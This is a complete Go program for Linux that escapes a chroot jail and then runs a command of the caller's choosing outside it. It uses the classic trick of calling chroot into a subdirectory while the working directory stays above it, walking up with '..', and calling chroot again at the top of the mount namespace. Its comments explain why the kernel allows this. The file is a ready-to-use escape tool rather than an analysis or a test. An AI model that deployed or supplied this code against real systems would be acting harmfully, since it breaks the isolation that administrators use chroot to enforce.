//go:build linux

// Command escape walks out of a chroot: escape CMD [ARG…] runs CMD, an absolute path,
// in the outermost root directory it can reach.
//
// A process has a root directory, where absolute paths begin and where ".." stops,
// and a working directory, where relative paths begin. chroot(2) changes the
// first and leaves the second alone; nothing in the kernel demands that the
// second lie below the first.
//
//	/              the host's root
//	└─ R           our root and working directory when we begin
//	   └─ x        our root after the second chroot: R itself is now outside of it
//
// ".." is stopped at the root directory only. A walk that begins above x never comes
// past x, so it is stopped by nothing before the root of the mount namespace.
// It needs CAP_SYS_CHROOT, which root has. Source: chroot(2), path_resolution(7).
package main

import (
	"errors"
	"fmt"
	"os"
	"syscall"
)

// deep is more levels than any directory is likely to lie below the root; at the
// top ".." leads to the top itself, so too many do no harm.
const deep = 64

func main() {
	if err := escapeAndRun(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
}

func escapeAndRun(command []string) error {
	if len(command) == 0 {
		return errors.New("no command given")
	}
	if err := escape(); err != nil {
		return err
	}
	return fmt.Errorf("exec %s: %w", command[0], syscall.Exec(command[0], command, os.Environ()))
}

// escape ends with root and working directory at the top of the mount namespace.
func escape() error {
	if err := os.Mkdir("x", 0o700); err != nil {
		return err
	}
	// The root directory moves down; the working directory stays above it.
	err := os.NewSyscallError("chroot", syscall.Chroot("x"))
	os.Remove("x") //nolint:errcheck // a directory in use lives on without its name
	for i := 0; err == nil && i < deep; i++ {
		err = syscall.Chdir("..")
	}
	if err != nil {
		return err
	}
	return syscall.Chroot(".")
}
